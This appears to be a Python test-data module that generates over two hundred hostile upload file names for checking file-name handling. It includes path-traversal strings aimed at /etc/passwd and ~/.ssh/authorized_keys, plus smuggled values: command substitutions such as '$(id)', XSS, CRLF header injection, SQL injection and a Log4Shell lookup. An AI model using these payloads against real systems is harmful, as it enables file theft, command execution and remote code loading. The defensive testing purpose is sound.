"""More than two hundred names that a sender can give a file, made to lead somewhere or to look like another."""

from __future__ import annotations

import unicodedata

_SLASHES = ("/", "\\", "//", "\\\\", "%2f", "%5c", "%252f", "..%c0%af", "／", "＼", "∕", "⁄", "⧸")
_TARGETS = ("etc/passwd", "vault.json")
_ABSOLUTE = (
    "/etc/passwd",
    "//server/share/x",
    "\\\\server\\share\\x",
    "\\\\?\\C:\\x",
    "\\\\.\\PhysicalDrive0",
    "C:\\Windows\\win.ini",
    "C:x",
    "c:/x",
    "file:///etc/passwd",
    "~/.ssh/authorized_keys",
    "~root",
    "$HOME/x",
    "%APPDATA%\\x",
    "/dev/null",
    "/proc/self/environ",
)
_DEVICES = (
    "CON",
    "PRN",
    "AUX",
    "NUL",
    *(f"{name}{no}" for name in ("COM", "LPT") for no in range(1, 10)),
    "CONIN$",
    "CLOCK$",
)
_INVISIBLE = (
    *range(0x00, 0x20),
    *range(0x7F, 0xA0),
    0xAD,
    0x61C,
    *range(0x200B, 0x2010),
    *range(0x2028, 0x202F),
)
_MORE_INVISIBLE = (
    *range(0x2060, 0x2070),
    0xFEFF,
    0xFFF9,
    0xFFFA,
    0xFFFB,
    0xE0001,
    0xE0041,
    0xD800,
    0xDFFF,
    0xFFFE,
    0x10FFFF,
)
_ODD = (
    "",
    ".",
    "..",
    "...",
    " ",
    "\u3000",
    " . ",
    "a.",
    "a ",
    ".htaccess",
    "-rf",
    "--help",
    "a;b",
    "a|b",
    "a&b",
    "a`id`b",
    "$(id)",
    "a*b",
    "a?b",
    "a<b>c",
    'a"b',
    "a'b",
    "a:b",
    "a.txt:stream",
    "a.txt::$DATA",
    "a.php.txt",
    "<script>alert(1)</script>",
    '"; filename="other.exe',
    "a\r\nSet-Cookie: x=1",
    "a%0d%0aSet-Cookie: x=1",
    "=?utf-8?b?Li4vLi4v?=",
    "utf-8''..%2f..%2fx",
    "照片\u202egpj.exe",
    "👩\u200d👩\u200d👧.jpg",
    "فاتورة.pdf",
    "a" * 255,
    "a" * 5_000,
    "照" * 300,
    "../" * 500 + "x",
    "a/" * 500,
    "." * 300,
    unicodedata.normalize("NFD", "résumé"),
    unicodedata.normalize("NFC", "résumé"),
    "ﬁle",
    "ｆｕｌｌ",
    "a" + "\u0301" * 300,
    "{0}",
    "%s%n",
    "{{7*7}}",
    "${jndi:ldap://x/a}",
    "' OR 1=1 --",
)


def list_hostile_names() -> list[str]:
    """Each once, without the ending of a kind of file."""
    climbing = [
        f"{('..' + slash) * depth}{target}" for slash in _SLASHES for depth in (1, 8) for target in _TARGETS
    ]
    unseen = [f"a{chr(code)}b" for code in (*_INVISIBLE, *_MORE_INVISIBLE)]
    devices = [name for device in _DEVICES for name in (device, f"{device.lower()}.tar", f"{device} ")]
    return list(dict.fromkeys([*climbing, *_ABSOLUTE, *devices, *unseen, *_ODD]))
